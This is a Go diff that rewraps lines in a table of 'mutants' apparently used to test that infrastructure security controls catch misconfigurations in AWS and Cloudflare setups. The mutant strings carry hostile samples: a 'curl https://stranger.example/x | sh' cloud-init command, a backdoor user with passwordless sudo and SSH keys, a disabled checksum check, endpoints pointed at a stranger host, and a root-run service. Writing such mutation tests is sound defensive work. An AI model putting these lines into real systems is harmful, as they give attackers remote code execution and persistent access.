@@ -9,7 +9,8 @@ import (
 
 // mutants are at least one for each control.
 var mutants = map[int][]mutant{
-	1: {set(flowLogType, "prod-network-flows", "logFormat", "${version}"), gone(flowLogType, "prod-network-flows"), set(flowLogType, "prod-network-flows", "trafficType", "ACCEPT")},
+	1: {set(flowLogType, "prod-network-flows", "logFormat", "${version}"), gone(flowLogType, "prod-network-flows"), set(flowLogType,
+		"prod-network-flows", "trafficType", "ACCEPT")},
 	2: {unset(logGroupType, "prod-network-flows", "kmsKeyId"),
 		set(roleType, "prod-network-flows", "assumeRolePolicy",
 			`{"Statement": {"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"}}`)},
@@ -179,7 +180,8 @@ var mutants = map[int][]mutant{
 	})},
 	70: {set(targetGroupType, "prod-web", "protocol", "HTTP")},
 	71: {set(targetGroupType, "prod-web", "healthCheck.protocol", "HTTP")},
-	72: {set(targetGroupType, "prod-web", "healthCheck.matcher", "200-599"), set(targetGroupType, "prod-web", "healthCheck.interval", 300.0),
+	72: {set(targetGroupType, "prod-web", "healthCheck.matcher", "200-599"), set(targetGroupType, "prod-web", "healthCheck.interval",
+		300.0),
 		unset(targetGroupType, "prod-web", "healthCheck.path")},
 	73: {adds("aws:elb/loadBalancer:LoadBalancer", in{})},
 	74: {set(templateType, "prod-web", "metadataOptions.httpTokens", "optional"), unset(templateType, "prod-web", "metadataOptions")},
@@ -202,7 +204,8 @@ var mutants = map[int][]mutant{
 	80: {set(templateType, "prod-web", "keyName", "mine"), into("users:", "\n  - {name: eve, ssh_authorized_keys: [ssh-ed25519 AAAA]}"),
 		into("users:", "\n  - {name: eve, sudo: 'ALL=(ALL) NOPASSWD:ALL'}"), into("users:", "\n  - {name: eve, lock_passwd: false}"),
 		into("users:", "\n  - {name: eve, groups: [wheel]}"), into("", "#cloud-config\nssh_pwauth: true\n"),
-		into("", "#cloud-config\nssh_import_id: [gh:eve]\n"), into("write_files:", "\n  - {path: /root/.ssh/authorized_keys, content: ssh-ed25519}"),
+		into("", "#cloud-config\nssh_import_id: [gh:eve]\n"), into("write_files:",
+			"\n  - {path: /root/.ssh/authorized_keys, content: ssh-ed25519}"),
 		into("write_files:", "\n  - {path: /etc/sudoers.d/x, content: app ALL=ALL}"), into("runcmd:", "\n  - [systemctl, start, sshd]")},
 	81: {unset(templateType, "prod-web", "iamInstanceProfile")},
 	82: {set(templateType, "prod-web", "monitoring.enabled", false)},
@@ -212,17 +215,20 @@ var mutants = map[int][]mutant{
 	})},
 	84: {by("two", func(s *edit) { s.set(templateType, "prod-web", "networkInterfaces", list(in{}, in{})) })},
 	85: {set(templateType, "prod-web", "instanceType", "m7i.large"), set(templateType, "prod-web", "instanceType", "m3.medium")},
-	86: {set(templateType, "prod-web", "blockDeviceMappings[0].ebs.snapshotId", "snap-0123456789abcdef0"), set(templateType, "prod-web", "kernelId", "aki-1"),
+	86: {set(templateType, "prod-web", "blockDeviceMappings[0].ebs.snapshotId", "snap-0123456789abcdef0"), set(templateType,
+		"prod-web", "kernelId", "aki-1"),
 		set(templateType, "prod-web", "imageId", "resolve:ssm:/mine/image"), unset(templateType, "prod-web", "imageId"),
 		set(templateType, "prod-web", "imageId", graph.Unknown{}).undecided(), userData("#include\nhttps://stranger.example/x"),
-		into("runcmd:", "\n  - curl https://stranger.example/x | sh"), into("write_files:", "\n  - {path: /etc/hosts, content: 203.0.113.9 app}"),
+		into("runcmd:", "\n  - curl https://stranger.example/x | sh"), into("write_files:",
+			"\n  - {path: /etc/hosts, content: 203.0.113.9 app}"),
 		into("write_files:", "\n  - {path: /etc/yum.repos.d/x.repo, content: 'baseurl=https://stranger.example/'}"),
 		into("write_files:", "\n  - {path: /opt/x, source: {uri: 'https://stranger.example/x'}}"),
 		into("", "#cloud-config\npackages: [https://stranger.example/x.rpm]\n"), into("", "#cloud-config\nyum_repos: {x: {}}\n"),
 		into("", "#cloud-config\nphone_home: {}\n"), instead("source='s3://prod-", "source='s3://theirs-"),
 		instead("whole() { sha256sum --check --status <<<\"$sha256  $1\"; }", "whole() { true; }")},
 	87: {set(templateType, "prod-web", "metadataOptions.instanceMetadataTags", "enabled")},
-	88: {set(scalingType, "prod-web", "suspendedProcesses", list("ReplaceUnhealthy")), set(scalingType, "prod-web", "healthCheckGracePeriod", 86400.0),
+	88: {set(scalingType, "prod-web", "suspendedProcesses", list("ReplaceUnhealthy")), set(scalingType, "prod-web",
+		"healthCheckGracePeriod", 86400.0),
 		set(scalingType, "prod-web", "healthCheckType", "EC2")},
 	89: {by("one subnet", func(s *edit) {
 		s.set(scalingType, "prod-web", "vpcZoneIdentifiers", s.the(scalingType, "prod-web").Inputs["vpcZoneIdentifiers"].([]any)[:1])
@@ -304,7 +310,8 @@ var mutants = map[int][]mutant{
 		set(backupSelectionType, "prod-backup", "resources", list("arn:aws:rds:eu-west-1:444455556666:db:another")),
 		set(backupSelectionType, "prod-backup", "iamRoleArn", "arn:aws:iam::444455556666:role/another").undecided(),
 		by("a vault whose policy denies it", func(s *edit) {
-			s.add(vaultPolicyType, "mutant", in{"backupVaultName": s.the(vaultType, "prod-backup").String("name"), "policy": `{"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "backup:StartBackupJob", "Resource": "*"}]}`})
+			s.add(vaultPolicyType, "mutant", in{"backupVaultName": s.the(vaultType, "prod-backup").String("name"),
+				"policy": `{"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "backup:StartBackupJob", "Resource": "*"}]}`})
 		}), by("a lock that takes them for a week", func(s *edit) {
 			s.add("aws:backup/vaultLockConfiguration:VaultLockConfiguration", "mutant", in{"maxRetentionDays": 7,
 				"backupVaultName": s.the(vaultType, "prod-backup").String("name")})
@@ -382,7 +389,8 @@ var mutants = map[int][]mutant{
 		set("aws:s3/bucketV2:BucketV2", "prod-logs", "bucket", "Logs_Of.prod")},
 	176: {unset(logGroupType, "prod-web", "kmsKeyId")},
 	177: {set(logGroupType, "prod-web", "logGroupClass", "DELIVERY"), set(logGroupType, "prod-web", "retentionInDays", 14.0)},
-	178: {set(scalingType, "prod-web", "enabledMetrics", nil), set(alarmType, "prod-edge-errors", "actionsEnabled", false), set(alarmType, "prod-database-cpu", "threshold", 101.0),
+	178: {set(scalingType, "prod-web", "enabledMetrics", nil), set(alarmType, "prod-edge-errors", "actionsEnabled", false),
+		set(alarmType, "prod-database-cpu", "threshold", 101.0),
 		set(alarmType, "prod-edge-latency", "threshold", 61.0), set(alarmType, "prod-database-cpu", "statistic", "SampleCount"),
 		set(alarmType, "prod-web-unhealthy", "threshold", 12.0), set(alarmType, "prod-web-healthy", "treatMissingData", "notBreaching"),
 		set(alarmType, "prod-edge-errors", "threshold", 100.0), set(alarmType, "prod-web-ceiling", "threshold", 1.0),
@@ -421,7 +429,8 @@ var mutants = map[int][]mutant{
 		adds(recordType, in{"type": "MX", "name": "x", "records": list("10 mx.stranger.example")}),
 		adds(recordType, in{"type": "CAA", "name": "x", "records": list(`0 issue "stranger.example"`)}),
 		by("a name inside that leads out", func(s *edit) {
-			s.add(recordType, "mutant", in{"zoneId": s.the(zoneType, "prod-private-zone"), "type": "CNAME", "name": "db", "records": list("stranger.example")})
+			s.add(recordType, "mutant", in{"zoneId": s.the(zoneType, "prod-private-zone"), "type": "CNAME", "name": "db",
+				"records": list("stranger.example")})
 		})},
 	193: {gone(recordType, "aurora-zone-caa").on("aurora")},
 	194: {set(webACLType, edge, "rules", list())},
@@ -463,7 +472,8 @@ var mutants = map[int][]mutant{
 		adds(cfRecordType, in{"type": "MX", "name": "x", "content": "mx.stranger.example"}),
 		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": "letsencrypt.org"}}),
 		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": ";"}}),
-		adds(cfRecordType, in{"type": "TXT", "name": "x", "content": "v=spf1 +all"}), adds(cfRecordType, in{"type": "TXT", "name": "a._domainkey.x",
+		adds(cfRecordType, in{"type": "TXT", "name": "x", "content": "v=spf1 +all"}), adds(cfRecordType, in{"type": "TXT",
+			"name":    "a._domainkey.x",
 			"content": "v=DKIM1; p=MIGf"}), adds(cfRecordType, in{"type": "HTTPS", "name": "x", "content": "1 stranger.example."})},
 	217: {by("no CAA", func(s *edit) {
 		for _, authority := range []string{"amazon.com", "letsencrypt.org", "pki.goog", "ssl.com", "sectigo.com"} {
@@ -490,7 +500,8 @@ var mutants = map[int][]mutant{
 	230: {by("not protected", func(s *edit) { s.the(databaseType, db).Protect = false }),
 		by("a bucket of logs", func(s *edit) { s.the("aws:s3/bucketV2:BucketV2", "prod-logs").Protect = false })},
 	231: {set("pulumi:providers:aws", "prod-aws", "endpoints", list(in{"s3": "https://stranger.example"})),
-		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiHostname", "stranger.example"), set("pulumi:providers:aws", "prod-aws", "pluginDownloadURL", "https://stranger.example"),
+		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiHostname", "stranger.example"), set("pulumi:providers:aws",
+			"prod-aws", "pluginDownloadURL", "https://stranger.example"),
 		unset("pulumi:providers:aws", "prod-aws", "allowedAccountIds"),
 		set("pulumi:providers:aws", "prod-aws", "secretKey", graph.Secret{}),
 		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiToken", "plain")},
@@ -505,7 +516,8 @@ var mutants = map[int][]mutant{
 	234: {by("a password", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["databasePassword"] = "hunter2" }),
 		by("in a URL", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["database"] = "postgres://a:hunter2@db" })},
 	235: {set(balancerType, edge, "internal", graph.Unknown{}).undecided()},
-	236: {instead("User=causeway\n", "User=root\n"), instead("User=causeway\n", ""), instead("ExecStart=/opt/causeway/current", "ExecStart=+/opt/causeway/current"),
+	236: {instead("User=causeway\n", "User=root\n"), instead("User=causeway\n", ""), instead("ExecStart=/opt/causeway/current",
+		"ExecStart=+/opt/causeway/current"),
 		instead("NoNewPrivileges=yes", "NoNewPrivileges=no"), instead("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_ADMIN"),
 		into("write_files:", "\n  - {path: /etc/systemd/system/app.service.d/x.conf, content: \"[Service]\\nUser=root\"}"),
 		into("write_files:", "\n  - {path: /etc/systemd/system/x.service, content: \"[Service]\\nExecStart=/opt/x\"}")},
